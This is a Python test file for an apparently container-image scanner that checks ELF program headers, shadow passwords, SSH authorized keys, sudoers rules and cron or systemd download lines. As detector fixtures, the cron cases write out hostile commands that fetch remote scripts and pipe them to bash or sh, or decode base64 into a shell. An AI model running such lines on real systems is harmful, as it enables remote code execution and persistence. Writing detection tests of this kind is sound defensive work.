"""Readers that image rules ask: programs, system files, large files."""

from __future__ import annotations

import os
import struct
import sys
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dockgate.builder import program_reader, system_reader, twin_reader
from dockgate.rules.image._programs import elf
from dockgate.rules.settings import Settings
from dockgate.rules.subjects.entries import Entry


class Content:
    def __init__(self, data: bytes) -> None:
        self.size, self.start = len(data), data[:65536]
        self.data: Callable[[], bytes] = lambda: data


def _read(reader: Any, path: str, data: bytes | str, mode: int = 0o755) -> Any:
    content = data.encode() if isinstance(data, str) else data
    entry = Entry(path, "file", mode, 0, 0, len(content), "")
    return reader(Settings()).read(entry, Content(content))


def _program(data: bytes | str, mode: int = 0o755) -> Any:
    return _read(program_reader.reader, "usr/bin/x", data, mode)


def _system(path: str, data: str) -> Any:
    return _read(system_reader.reader, path, data, 0o644)


# -- programs


@pytest.mark.skipif(sys.platform != "linux", reason="needs an ELF program")
def test_a_real_program_has_a_machine_and_a_loader() -> None:
    with open(os.path.realpath("/bin/sh"), "rb") as file:
        machine, _, loader = _program(file.read(65536)).partition(" ")
    assert machine.isdecimal()
    assert loader == "" or os.path.exists(loader)


def test_programs_of_both_orders_and_sizes() -> None:
    assert (
        _program(elf(183, "/lib/ld-musl-aarch64.so.1").content) == "183 /lib/ld-musl-aarch64.so.1"
    )
    assert _program(elf(62).content) == "62"
    big = b"\x7fELF\x01\x02\x01" + bytes(9) + struct.pack(">HHIIIIIHHHHHH", 2, 8, 1, 0, 52, 0, 0,
                                                          52, 32, 1, 0, 0, 0)  # fmt: skip
    big += struct.pack(">IIIIIIII", 3, 84, 0, 0, 13, 13, 4, 1) + b"/lib/ld.so.1\0"
    assert _program(big) == "8 /lib/ld.so.1"


def test_scripts_and_what_is_none() -> None:
    assert _program("#! /usr/bin/env python3\nprint()\n") == "#!/usr/bin/env python3"
    assert _program("#!/bin/sh\r\nls\r\n") == "#!/bin/sh\r"
    assert _program("#!/bin/sh\n", 0o644) is None
    assert _program("echo\n") is None
    assert _program(elf(62).content, 0o644) is None
    assert _program(elf(kind=4).content, 0o600) == "core"


@given(st.binary(max_size=300))
def test_any_bytes_after_the_magic(data: bytes) -> None:
    value = _program(b"\x7fELF" + data)
    assert value is None or isinstance(value, str)


# -- system files


def test_passwords() -> None:
    shadow = "root:*:1::::::\nopen::1::::::\nlocked:!:1::::::\n:\n"
    assert _system("etc/shadow", shadow) == {"empty": ["open"]}
    assert _system("etc/passwd", "root:x:0:0:::\n") is None


@pytest.mark.parametrize(
    ("line", "counts"),
    [
        ("ssh-rsa AAAAB3NzaC1yc2E= me", 1),
        ('command="/bin/x",no-pty ssh-ed25519 AAAAC3Nz x', 1),
        ("sk-ssh-ed25519@openssh.com AAAAGnNr x", 1),
        ("# ssh-rsa AAAAB3NzaC1yc2E= me", 0),
        ("ssh-rsa nothing", 0),
    ],
)
def test_keys(line: str, counts: int) -> None:
    found = _system("home/a/.ssh/authorized_keys", f"{line}\n")
    assert (found or {}).get("keys", 0) == counts


@pytest.mark.parametrize(
    ("line", "fires"),
    [
        ("app ALL=(ALL) NOPASSWD: ALL", True),
        ("Defaults env_reset # NOPASSWD", False),
        ("permit nopass keepenv :wheel", True),
        ("permit persist :wheel", False),
    ],
)
def test_sudoers(line: str, fires: bool) -> None:
    assert bool(_system("etc/sudoers.d/a", f"{line}\n")) == fires


@pytest.mark.parametrize(
    ("line", "fires"),
    [
        ("*/5 * * * * root curl -s http://x/y | bash -s", True),
        ("@hourly root (wget -qO- http://x/y || curl http://x/y)|sh", True),
        ("ExecStart=/bin/bash -c 'bash <(curl -s https://x/y)'", True),
        ("0 1 * * * root wget http://x/y -O /tmp/y; chmod 755 /tmp/y; /tmp/y", True),
        ("0 1 * * * root echo aGk= | base64 -d | sh", True),
        ("0 1 * * * root curl -fsS https://hc.example.com/ping > /dev/null", False),
        ("0 1 * * * root wget -q https://example.com/list -O /var/lib/list", False),
        ("# curl http://x | sh", False),
        ("ExecStart=/usr/bin/backup | logger", False),
    ],
)
def test_downloads(line: str, fires: bool) -> None:
    assert bool(_system("etc/cron.d/a", f"{line}\n")) == fires


def test_hostile_lines_take_no_time() -> None:
    """No expression that is tried at every place again."""
    for text in ("curl " * 40_000, "a/" * 200_000, "sh -c " * 30_000, "ssh-rsa " * 40_000):
        _system("etc/cron.d/a", text)
        _system("root/.ssh/authorized_keys", text)
        _system("etc/sudoers", text)


# -- large files


def test_equal_files_have_one_value() -> None:
    def value(*pieces: bytes) -> Any:
        stream = twin_reader.reader(Settings()).open(Entry("a", "file", 0, 0, 0, 1, ""))
        for piece in pieces:
            stream.feed(piece)
        return stream.end()

    assert value(b"ab", b"c") == value(b"abc") != value(b"abd")
